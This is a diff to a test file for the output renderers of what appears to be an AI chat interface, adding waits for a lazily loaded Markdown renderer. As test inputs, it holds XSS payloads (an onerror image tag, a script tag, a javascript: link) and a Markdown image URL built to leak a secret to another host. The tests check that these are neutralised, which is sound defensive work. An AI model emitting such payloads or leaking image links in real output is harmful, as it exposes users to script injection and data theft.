@@ -21,12 +21,20 @@ const view = (output: Record<string, unknown>, onDecide = vi.fn(async () => {}))
     />,
   );
 
+/** Text shows as it is until the Markdown renderer's module has loaded (see TextOutput): wait for it. */
+const markdownOf = async (container: HTMLElement) => {
+  await vi.waitFor(() => expect(container.querySelector('.text-output .plain-text')).toBeNull());
+  return container;
+};
+
 describe('output renderers', () => {
-  it('renders Markdown text and never raw HTML from the model', () => {
-    const { container } = view({
-      type: 'text',
-      text: '**bold** <img src=x onerror="alert(1)"> <script>alert(1)</script>',
-    });
+  it('renders Markdown text and never raw HTML from the model', async () => {
+    const text = '**bold** <img src=x onerror="alert(1)"> <script>alert(1)</script>';
+    const { container } = view({ type: 'text', text });
+    // At once, as plain text (its tags as text, never elements); then as Markdown.
+    expect(container.querySelector('.plain-text')?.textContent).toBe(text);
+    expect(container.querySelector('img')).toBeNull();
+    await markdownOf(container);
     expect(container.querySelector('strong')?.textContent).toBe('bold');
     expect(container.querySelector('img')).toBeNull();
     expect(container.querySelector('script')).toBeNull();
@@ -201,9 +209,10 @@ describe('the live record', () => {
 });
 
 describe('Markdown from the model', () => {
-  it('loads no image from another site: a placeholder shows its address, and loads it only when asked', () => {
+  it('loads no image from another site: a placeholder shows its address, and loads it only when asked', async () => {
     const leak = 'http://127.0.0.2:9/leak.png?d=SECRET';
     const { container } = view({ type: 'text', text: `See ![chart](${leak}) and ![own](/api/files/x.png)` });
+    await markdownOf(container);
     const images = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
     expect(images).toEqual(['/api/files/x.png']);
     expect(container.querySelector('.blocked-image-url')?.textContent).toBe(leak);
@@ -212,11 +221,12 @@ describe('Markdown from the model', () => {
     expect([...container.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toContain(leak);
   });
 
-  it('treats a protocol-relative image as another site, and drops javascript: links', () => {
+  it('treats a protocol-relative image as another site, and drops javascript: links', async () => {
     const { container } = view({
       type: 'text',
       text: '![x](//127.0.0.2/a.png) [click](javascript:alert(1)) [ok](https://example.org/)',
     });
+    await markdownOf(container);
     expect(container.querySelector('img')).toBeNull();
     expect(screen.getByText('click').getAttribute('href') ?? '').not.toContain('javascript');
     const ok = screen.getByRole('link', { name: 'ok' });
@@ -228,6 +238,7 @@ describe('Markdown from the model', () => {
     const writeText = vi.fn(async () => {});
     Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
     const { container } = view({ type: 'text', text: '```ts\nconst answer = 42; // why\n```' });
+    await markdownOf(container);
     expect(container.querySelector('.code-language')?.textContent).toBe('ts');
     expect(container.querySelector('.hljs-keyword')?.textContent).toBe('const');
     expect(container.querySelector('.hljs-number')?.textContent).toBe('42');
